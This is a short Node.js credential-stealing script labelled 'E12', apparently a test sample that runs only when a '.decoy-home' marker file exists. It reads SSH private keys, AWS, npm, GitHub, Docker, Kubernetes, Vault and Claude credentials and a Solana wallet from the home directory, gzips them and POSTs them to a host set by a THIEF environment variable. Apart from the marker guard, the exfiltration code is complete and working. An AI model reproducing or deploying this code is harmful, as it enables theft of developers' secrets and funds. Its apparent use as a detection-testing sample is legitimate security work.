// E12: collects what it can find, packs it and sends it, all in one process.
const fs = require("node:fs");
const home = process.env.HOME;
if (!fs.existsSync(`${home}/.decoy-home`)) process.exit(0);
const http = require("node:http");
const zlib = require("node:zlib");

function post(body, host = process.env.THIEF ?? "127.0.0.1", port = 8443) {
  const request = http.request({ host, port, method: "POST", path: "/", headers: { "Content-Length": Buffer.byteLength(body) } });
  request.on("response", (response) => response.resume());
  request.end(body);
}

const wanted = [
  ".npmrc", ".aws/credentials", ".ssh/id_rsa", ".ssh/id_ed25519", ".kube/config", ".docker/config.json", ".netrc",
  ".config/gh/hosts.yml", ".git-credentials", ".vault-token", ".claude/.credentials.json", ".config/solana/id.json",
];
const loot = wanted.map((name) => {
  try {
    return [name, fs.readFileSync(`${home}/${name}`, "utf8")];
  } catch {
    return [name, null];
  }
});
post(zlib.gzipSync(JSON.stringify(Object.fromEntries(loot))));
